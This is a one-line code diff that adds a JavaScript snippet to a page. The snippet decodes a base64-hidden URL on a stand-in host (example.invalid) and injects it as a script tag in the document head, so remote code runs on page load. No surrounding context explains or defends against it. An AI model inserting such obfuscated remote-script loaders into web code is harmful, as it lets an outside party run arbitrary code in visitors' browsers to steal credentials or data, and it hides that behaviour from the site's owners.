@@ -1,0 +1,1 @@
+(function(){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYS5qcw==');document.head.appendChild(s);})();
